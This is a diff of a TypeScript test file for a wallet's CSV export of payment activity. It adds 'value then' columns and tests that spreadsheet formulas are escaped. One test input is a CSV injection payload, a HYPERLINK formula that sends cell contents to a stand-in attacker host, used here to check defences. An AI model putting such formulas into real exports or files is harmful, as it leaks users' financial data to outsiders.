@@ -26,7 +26,7 @@ const sent: ExportedActivity = {
 
 test('a payment in one line, in UTC, every amount as plain digits', () => {
   expect(csvLines([sent])).toBe(
-    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,,\r\n`,
+    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,,,0.10,USD\r\n`,
   );
 });
 
@@ -45,7 +45,7 @@ test('money received, not confirmed: what it has not is empty', () => {
     recipients: [{ to: 'mAddress', satoshis: '5' }],
     satoshis: '5',
   };
-  expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,\r\n`);
+  expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,,,\r\n`);
 });
 
 test('a payment that only the chain shows has no payment id, and what could not be worked out has no amount', () => {
@@ -61,10 +61,24 @@ test('a payment that only the chain shows has no payment id, and what could not 
     satoshis: '5',
   };
   expect(csvLines([restored])).toBe(
-    `2026-11-21T04:05:06.007Z,sent,COMPLETED,,mAddress,,,5,12,${TXID},812345,,,,,,\r\n`,
+    `2026-11-21T04:05:06.007Z,sent,COMPLETED,,mAddress,,,5,12,${TXID},812345,,,,,,,,\r\n`,
   );
   const unread: ExportedActivity = { ...restored, isUnverified: true, feeSatoshis: null, recipients: [] };
-  expect(csvLines([unread])).toBe(`2026-11-21T04:05:06.007Z,unknown,COMPLETED,,,,,,,${TXID},812345,,,,,,\r\n`);
+  expect(csvLines([unread])).toBe(`2026-11-21T04:05:06.007Z,unknown,COMPLETED,,,,,,,${TXID},812345,,,,,,,,\r\n`);
+});
+
+test('what it was worth then: what was asked, or what money cost when it was seen arriving; else nothing', () => {
+  const priceThen = { currency: 'EUR', price: '40' };
+  const worth = (item: Partial<ExportedActivity>) =>
+    csvLines([{ ...sent, amount: null, currency: null, ...item }])
+      .trimEnd()
+      .split(',')
+      .slice(-2);
+  expect(worth({ amount: '0.002', currency: 'BSV' })).toEqual(['', '']);
+  expect(worth({ direction: 'received', priceThen })).toEqual(['0.08', 'EUR']);
+  expect(worth({ direction: 'received', priceThen, satoshis: '5' })).toEqual(['0.000002', 'EUR']);
+  expect(worth({ direction: 'received' })).toEqual(['', '']);
+  expect(worth({ direction: 'received', priceThen, isUnverified: true })).toEqual(['', '']);
 });
 
 test('shows who paid by paymail, whether their host confirms it, and the note', () => {
@@ -74,10 +88,10 @@ test('shows who paid by paymail, whether their host confirms it, and the note', 
     sender: { paymail: 'bob@two.example', verified: true },
     note: 'for lunch, thanks\n=1+1',
   };
-  expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1",\r\n`)).toBe(true);
+  expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1",,0.10,USD\r\n`)).toBe(true);
   expect(
     csvLines([{ ...received, sender: { paymail: '=1@two.example', verified: false }, note: '+1' }]).endsWith(
-      `,'=1@two.example,no,'+1,\r\n`,
+      `,'=1@two.example,no,'+1,,0.10,USD\r\n`,
     ),
   ).toBe(true);
 });
@@ -108,7 +122,7 @@ test('of recipients that are not all stored, how many more there are', () => {
 
 test('the file begins with a byte order mark and the names of the columns', () => {
   expect(CSV_START).toBe(
-    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note,label\r\n',
+    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note,label,value then,value currency\r\n',
   );
 });
 
@@ -121,7 +135,7 @@ test.each([
   ['żółć 💸', 'żółć 💸'],
   ['', ''],
 ])('RFC 4180: %j becomes %j', (buttonId, cell) => {
-  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,,\r\n`)).toBe(true);
+  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,,,0.10,USD\r\n`)).toBe(true);
 });
 
 test.each([
@@ -137,7 +151,8 @@ test.each([
   '=HYPERLINK("https://evil.example?"&A1,"x")',
 ])('a formula is made text: %j', (buttonId) => {
   const [, cell = ''] =
-    /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,\r\n$/, '')) ?? [];
+    /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,,0\.10,USD\r\n$/, '')) ??
+    [];
   expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
 });
 
